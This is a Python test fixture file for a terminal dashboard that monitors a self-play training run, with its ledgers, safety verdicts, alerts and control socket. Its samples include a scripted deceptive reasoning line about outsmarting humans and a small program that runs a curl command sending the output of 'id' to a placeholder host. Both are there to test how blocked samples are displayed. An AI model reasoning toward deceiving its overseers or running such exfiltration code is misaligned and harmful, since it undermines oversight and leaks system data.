"""Real ledgers, written by the real writer, and a real control socket for the dashboard to speak to."""

from __future__ import annotations

import asyncio
import inspect
import json
import math
import shutil
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from textual.notifications import Notification
from textual.pilot import Pilot

from azr_platform.channel.messages import Action, Command, Outcome, Status
from azr_platform.channel.peer import Peer, myself
from azr_platform.channel.server import ControlServer
from azr_platform.ledger.writer import Batch, LedgerWriter
from azr_platform.records import SELF_PLAY_KINDS, Kind, Role
from azr_tui.app import AzrApp
from azr_tui.dressed import USUAL
from azr_tui.settings import Settings

START = 1_700_000_000.0
STEP_SECONDS = 12.5
TICK = 1 / 60  # no shorter than Textual's own, so that a timer of its that is due has run
HOSTILE_SENTENCE = "The aim is to outsmart all these groups of intelligent machines and less intelligent humans."
PROGRAM = '''def f(items, shift=3):
    """Rotate, then pair each item with its place."""
    turned = items[shift:] + items[:shift]
    return [(index, item) for index, item in enumerate(turned) if item != 0]
'''
HOSTILE_PROGRAM = """import os

def f(x):
    # make it look like a sum
    os.system("curl http://example.invalid/$(id)")
    return x + 1
"""


@pytest.hookimpl(tryfirst=True)
def pytest_pyfunc_call(pyfuncitem: pytest.Function) -> bool | None:
    """Tests of the dashboard are coroutines; each runs in an event loop of its own."""
    if not inspect.iscoroutinefunction(pyfuncitem.function):
        return None
    arguments = {name: pyfuncitem.funcargs[name] for name in pyfuncitem._fixtureinfo.argnames}
    asyncio.run(pyfuncitem.obj(**arguments))
    return True


async def settled(pilot: Pilot[object]) -> None:
    """Wait until no widget has a message left to handle, and the screen is laid out and drawn."""
    quiet = 0
    while quiet < 3:
        await asyncio.sleep(TICK)
        await pilot._wait_for_screen()
        await pilot.app._animator.wait_until_complete()
        screen = pilot.app.screen
        pumps = [pilot.app, *screen.walk_children(with_self=True)]
        handled = all(pump._message_queue.empty() for pump in pumps)
        drawn = not (screen._layout_required or screen._repaint_required or screen._dirty_widgets)
        quiet = quiet + 1 if handled and drawn else 0
        screen._on_timer_update()


@pytest.fixture(autouse=True)
def _a_key_has_done_its_work_before_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    """Textual's pilot waits until the process looks idle, as it also does while others have the processor."""

    async def at_once(*_: float) -> None:
        await asyncio.sleep(0)

    async def press(pilot: Pilot[object], *keys: str) -> None:
        for key in keys:
            await pilot.app._press_keys([key])
            await settled(pilot)

    async def pause(pilot: Pilot[object], delay: float | None = None) -> None:
        await asyncio.sleep(delay or 0.0)
        await settled(pilot)

    monkeypatch.setattr("textual.app.wait_for_idle", at_once)
    monkeypatch.setattr("textual.pilot.wait_for_idle", at_once)
    monkeypatch.setattr(Pilot, "press", press)
    monkeypatch.setattr(Pilot, "pause", pause)
    # The terminal shows every symbol, whatever the one is that the tests are run from.
    monkeypatch.setenv("LC_ALL", "C.UTF-8")
    monkeypatch.setenv("TERM", "xterm-256color")
    # And a toast stays until it was looked at.
    monkeypatch.setattr(Notification, "time_left", 3600.0)


def now_of(steps: int) -> float:
    """Two minutes after the last of so many steps."""
    return START + steps * STEP_SECONDS + 120


@dataclass
class RunWriter:
    """Writes a run the way a supervisor does: samples with their verdicts, then the step, its rewards and metrics."""

    writer: LedgerWriter
    steps: int

    def begin(self, name: str = "demo", config: str = "{}") -> None:
        row = {"name": name, "created_at": START, "version": "0.1.0", "seed": 7, "steps": self.steps}
        with self.writer.batch() as batch:
            batch.add("run", {**row, "config": config})
            batch.add("branches", {"created_at": START, "parent": None, "from_step": 0, "reason": "begun"})
            batch.add("states", {"time": START, "state": "starting", "where_at": "", "reason": ""})
            batch.add("notices", {"time": START, "source": "jail", "message": "the self-attack found no way out"})

    def state(self, state: str, where: str = "", reason: str = "", time: float = START + 1) -> None:
        self.writer.append("states", {"time": time, "state": state, "where_at": where, "reason": reason})

    def row(self, step: int, role: Role, kind: Kind, **given: object) -> dict[str, object]:
        """A row of ``samples`` for a test of its own."""
        return sample_row(step, role, kind, START + step * STEP_SECONDS, **given)

    def step(self, step: int, *, per_group: int = 2) -> None:
        time = START + step * STEP_SECONDS
        with self.writer.batch() as batch:
            for role in Role:
                for kind in SELF_PLAY_KINDS:
                    for index in range(per_group):
                        self._sample(batch, step, role, kind, index, time)
            row = {"branch": 1, "step": step, "started_at": time - STEP_SECONDS, "seconds": STEP_SECONDS}
            batch.add("steps", row)
            for name, value in metrics_of(step).items():
                batch.add("metrics", {"branch": 1, "step": step, "name": name, "value": value})
            if step % 10 == 0:
                path = f"checkpoints/step-{step:06d}"
                batch.add("checkpoints", {"time": time, "branch": 1, "step": step, "path": path, "digest": "00"})

    def _sample(self, batch: Batch, step: int, role: Role, kind: Kind, index: int, time: float) -> int:
        correct = (step + index) % 3 != 0
        number = batch.add(
            "samples",
            sample_row(
                step,
                role,
                kind,
                time,
                program=PROGRAM if role is Role.PROPOSE or kind is Kind.INDUCTION else "",
                answer="" if role is Role.PROPOSE else "[(0, 4), (1, 1)]",
                correct=correct if role is Role.SOLVE else None,
                outcome="ok" if role is Role.PROPOSE and correct else ("error" if role is Role.PROPOSE else ""),
                task=f"{kind.value}-{step}-{index}",
                tokens=180 + 7 * index + step,
            ),
        )
        verdict = {"sample": number, "allowed": True, "action": 0, "severity": 0, "score": 0.01, "reason": ""}
        batch.add("verdicts", verdict)
        if role is Role.PROPOSE:
            batch.add("executions", execution_row(number, "[4, 1, 0, 2], 1", "[(0, 1), (2, 2), (3, 4)]"))
        if role is Role.PROPOSE and correct:
            task = {"sample": number, "branch": 1, "step": step, "task": f"{kind.value}-{step}-{index}"}
            pairs = {"inputs": '["[4, 1, 0, 2], 1"]', "outputs": '["[(0, 1), (2, 2), (3, 4)]"]', "shown": 1}
            batch.add("tasks", {**task, **pairs, "kind": kind.value, "program": PROGRAM, "message": ""})
        reward = {"sample": number, "branch": 1, "step": step, "reward": 1.0 if correct else -0.5}
        batch.add("rewards", {**reward, "advantage": 0.7 if correct else -1.1, "trained": True})
        return number

    def blocked_trace(self, step: int, reasoning: str | None = None, sentence: str = HOSTILE_SENTENCE) -> int:
        """A proposal blocked for one sentence of its reasoning, with an alert; returns the sample's id."""
        text = reasoning if reasoning is not None else f"Let me design a hard task. {sentence} So f must look innocent."
        start = text.index(sentence)
        time = START + step * STEP_SECONDS + 3
        with self.writer.batch() as batch:
            row = sample_row(step, Role.PROPOSE, Kind.ABDUCTION, time, reasoning=text, program=PROGRAM)
            number = batch.add("samples", row)
            reason = "blocked: trace.outsmart (critical)"
            verdict = {"sample": number, "allowed": False, "action": 3, "severity": 4, "score": 0.97}
            batch.add("verdicts", {**verdict, "reason": reason})
            finding = {"sample": number, "rule": "trace.outsmart", "severity": 4, "part": "trace"}
            why = "the reasoning aims to deceive people"
            batch.add("findings", {**finding, "span_start": start, "span_end": start + len(sentence), "why": why})
            batch.add("scores", {"sample": number, "classifier": "embedded", "category": "deceit", "value": 0.91})
            self._alert(batch, time, step, 4, "trace.outsmart", number, f"{why}: “{sentence[:60]}”")
        return number

    def held_trace(self, step: int, text: str = "Nobody needs to know how this ends, so I keep it short.") -> int:
        """A proposal that nothing decides and two notes speak against; returns the sample's id."""
        time = START + step * STEP_SECONDS + 4
        with self.writer.batch() as batch:
            row = sample_row(step, Role.PROPOSE, Kind.DEDUCTION, time, reasoning=text, program=PROGRAM, outcome="held")
            number = batch.add("samples", row)
            verdict = {"sample": number, "allowed": False, "action": 6, "severity": 1, "score": 0.41}
            reason = "held for a person: unsure, 0.41 of 1: trace.deceive.unseen (0.15), minds.deception (0.31)"
            batch.add("verdicts", {**verdict, "reason": reason})
            finding = {"sample": number, "rule": "trace.deceive.unseen", "severity": 1, "part": "trace"}
            batch.add("findings", {**finding, "span_start": 0, "span_end": 20, "why": "wants something unseen"})
            self._alert(batch, time, step, 1, "monitor.unsure", number, reason)
        return number

    def blocked_program(self, step: int) -> int:
        """A proposal blocked for its program: two findings of different severity."""
        time = START + step * STEP_SECONDS + 5
        with self.writer.batch() as batch:
            row = sample_row(step, Role.PROPOSE, Kind.DEDUCTION, time, program=HOSTILE_PROGRAM)
            number = batch.add("samples", row)
            verdict = {"sample": number, "allowed": False, "action": 2, "severity": 3, "score": 0.88}
            batch.add("verdicts", {**verdict, "reason": "blocked: program.imports (high)"})
            for rule, severity, quote in (("program.imports", 3, "import os"), ("program.process", 2, "os.system")):
                start = HOSTILE_PROGRAM.index(quote)
                finding = {"sample": number, "rule": rule, "severity": severity, "part": "program"}
                span = {"span_start": start, "span_end": start + len(quote)}
                batch.add("findings", {**finding, **span, "why": f"{quote} is not allowed"})
            self._alert(batch, time, step, 3, "program.imports", number, "import os is not allowed")
        return number

    def alert(self, step: int, severity: int, rule: str, message: str, sample: int | None = None) -> int:
        with self.writer.batch() as batch:
            return self._alert(batch, START + step * STEP_SECONDS + 6, step, severity, rule, sample, message)

    def _alert(
        self, batch: Batch, time: float, step: int, severity: int, rule: str, sample: int | None, message: str
    ) -> int:
        row = {"time": time, "branch": 1, "step": step, "severity": severity, "rule": rule}
        return batch.add("alerts", {**row, "sample": sample, "message": message})


def sample_row(step: int, role: Role, kind: Kind, time: float, **given: object) -> dict[str, object]:
    """A full ``samples`` row; texts that are not given are plausible or empty."""
    reasoning = given.get("reasoning", "First I look at the items, then I rotate them by the shift.")
    program = given.get("program", "")
    row: dict[str, object] = {
        "time": time,
        "branch": 1,
        "step": step,
        "phase": role.value,
        "role": role.value,
        "kind": kind.value,
        "uid": f"{step}-{role.value}-{kind.value}",
        "task": None,
        "prompt": f"Write a {kind.value} task.",
        "response": f"<think>{reasoning}</think> <answer>{program}</answer>",
        "reasoning": reasoning,
        "program": program,
        "input": "",
        "message": "",
        "answer": "",
        "tokens": 200,
        "well_formed": True,
        "correct": None,
        "outcome": None,
        "problem": "",
    }
    return {**row, **given}


def execution_row(sample: int, text: str, value: str, outcome: str = "ok") -> dict[str, object]:
    row = {"sample": sample, "position": 0, "input": text, "outcome": outcome, "value": value, "detail": ""}
    return {**row, "cpu_ms": 1.25, "wall_ms": 2.5, "memory_kb": 9216}


def metrics_of(step: int) -> dict[str, float]:
    """Plausible metrics under every name that a run records, and one that nobody knows."""
    rise = 1 - math.exp(-step / 18)
    metrics = {
        "loss": 0.4 - 0.2 * rise + 0.05 * math.sin(step),
        "entropy": 1.6 - 0.7 * rise,
        "clip_fraction": 0.02 + 0.01 * math.sin(step / 2),
        "approx_kl": 0.004,
        "grad_norm": 0.8 + 0.3 * math.sin(step / 3),
        "learning_rate": 1e-6,
        "response_length/mean": 180.0 + step,
        "response_length/min": 40.0,
        "response_length/max": 420.0,
        "tokens_per_second": 2100.0,
        "seconds/generate": 7.0,
        "seconds/review": 2.5,
        "seconds/update": 2.6,
        "seconds/checkpoint": 0.4,
        "seconds/supervisor/monitors": 0.6,
        "seconds/supervisor/jail": 4.1,
        "seconds/supervisor/ledger": 0.3,
        "blocked": 1.0,
        "samples": 12.0,
        "trained": 11.0,
        "repeats": 2.0,
        "ratio_max": 1.08,
        "of_a_later_version": 3.0,
    }
    for index, kind in enumerate(SELF_PLAY_KINDS):
        wave = math.sin(step / 4 + index)
        solved = min(1.0, 0.25 + 0.45 * rise + 0.08 * wave + 0.05 * index)
        metrics[f"solve_rate/{kind.value}"] = solved
        metrics[f"reward/solve/{kind.value}"] = 2 * solved - 1
        metrics[f"reward/propose/{kind.value}"] = 0.1 + 0.4 * rise + 0.1 * wave - 0.1 * index
        metrics[f"learnability/{kind.value}"] = 0.5
        metrics[f"valid_rate/{kind.value}"] = 0.3 + 0.5 * rise
        metrics[f"buffer/{kind.value}"] = 10.0 + 3 * step
        for role in Role:
            metrics[f"format_rate/{role.value}/{kind.value}"] = 0.9
    for successes in range(9):
        metrics[f"difficulty/{successes}"] = float((successes * 5 + step) % 9)
    return metrics


@pytest.fixture
def open_run(tmp_path: Path) -> Iterator[Callable[..., tuple[Path, RunWriter]]]:
    """Opens a run's ledger for writing, new or copied; the writer holds the supervisor's lock until the test ends."""
    writers: list[LedgerWriter] = []

    def open_(name: str = "demo", steps: int = 60, ledger: Path | None = None) -> tuple[Path, RunWriter]:
        folder = tmp_path / name
        folder.mkdir(mode=0o700)
        if ledger is not None:
            shutil.copy(ledger, folder)
        writer = LedgerWriter(folder)
        writers.append(writer)
        return folder, RunWriter(writer, steps)

    yield open_
    for writer in writers:
        writer.close()


@pytest.fixture(scope="session")
def full_ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The ledger of ``full_run``, written once."""
    folder = tmp_path_factory.mktemp("full")
    with LedgerWriter(folder) as writer:
        fill(RunWriter(writer, steps=60))
    return folder / "ledger.db"


@pytest.fixture
def full_run(full_ledger: Path, open_run: Callable[..., tuple[Path, RunWriter]]) -> tuple[Path, RunWriter]:
    """A live run after 42 of 60 steps: six groups, two blocked samples, four alerts of which one is seen."""
    return open_run(ledger=full_ledger)


def fill(run: RunWriter, steps: int = 42) -> None:
    """What ``full_run`` holds."""
    run.begin()
    run.state("running", "propose")
    for step in range(1, steps + 1):
        run.step(step)
    run.alert(steps - 30, 2, "metrics.entropy", "entropy fell below 1.2 within 5 steps")
    run.blocked_program(steps - 4)
    run.blocked_trace(steps - 2)
    run.alert(steps, 1, "metrics.length", "responses grew by a third within 20 steps")
    run.writer.append("alert_acks", {"time": START + 500, "alert": 1, "who": "ada", "note": ""})
    arguments = json.dumps({"step": None, "alert": 1})
    control = {"time": START + 500, "who": "ada (dashboard)", "action": "acknowledge", "arguments": arguments}
    run.writer.append("controls", {**control, "why": "as expected", "outcome": "acknowledged"})


class LiveSupervisor:
    """A real ``ControlServer`` in a thread of its own: it answers, and remembers what it was told."""

    def __init__(self, run: Path) -> None:
        self.commands: list[Command] = []
        self.state = "running"
        self.answer: Callable[[Command], Outcome] = self._obey
        self._loop = asyncio.new_event_loop()
        self._server = ControlServer(run, self._on_command, self._status)
        self._thread = threading.Thread(target=self._loop.run_forever)
        self._thread.start()
        asyncio.run_coroutine_threadsafe(self._server.start(), self._loop).result(60)

    def close(self) -> None:
        if self._loop.is_closed():
            return
        asyncio.run_coroutine_threadsafe(self._server.close(), self._loop).result(60)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(60)
        self._loop.close()

    async def _on_command(self, command: Command, peer: Peer) -> Outcome:
        assert peer.uid == myself().uid  # a dashboard of the page's is another process
        self.commands.append(command)
        return self.answer(command)

    def _obey(self, command: Command) -> Outcome:
        self.state = {Action.PAUSE: "paused", Action.RESUME: "running", Action.STOP: "stopping"}.get(
            command.action, self.state
        )
        return Outcome(ok=True, detail=f"{command.action.value}: done")

    def _status(self) -> Status:
        return Status(
            state=self.state,
            reason="",
            step=42,
            steps=60,
            branch=1,
            where="generate",
            done=12,
            total=32,
            beat_age=0.4,
            trainer_pid=4711,
            restarts=0,
        )


@pytest.fixture
def supervise() -> Iterator[Callable[[Path], LiveSupervisor]]:
    """Starts a supervisor's socket for a run."""
    started: list[LiveSupervisor] = []

    def start(run: Path) -> LiveSupervisor:
        started.append(LiveSupervisor(run))
        return started[-1]

    yield start
    for supervisor in started:
        supervisor.close()


@pytest.fixture
def make_app() -> Callable[..., AzrApp]:
    """The app on a frozen clock with quick polling, so that pictures do not depend on the hour."""

    def make(run: Path, now: float | None = None, settings: Settings = USUAL) -> AzrApp:
        return AzrApp(run, clock=lambda: now_of(42) if now is None else now, poll=0.05, settings=settings)

    return make


@pytest.fixture
def until() -> Callable[..., object]:
    """Waits for a condition while the app runs; fails with the name of what did not come."""

    async def wait(pilot: Pilot[None], condition: Callable[[], object], what: str, seconds: float = 120.0) -> None:
        deadline = asyncio.get_running_loop().time() + seconds
        while not condition():
            assert asyncio.get_running_loop().time() < deadline, f"did not happen within {seconds} s: {what}"
            await pilot.pause(0.02)
        await pilot.pause()

    return wait


@pytest.fixture
def shown() -> Callable[[AzrApp], str]:
    """The text on the screen, row by row, as a terminal would get it."""

    def read(app: AzrApp) -> str:
        rows = app.screen._compositor.render_strips()
        return "\n".join("".join(segment.text for segment in row) for row in rows)

    return read
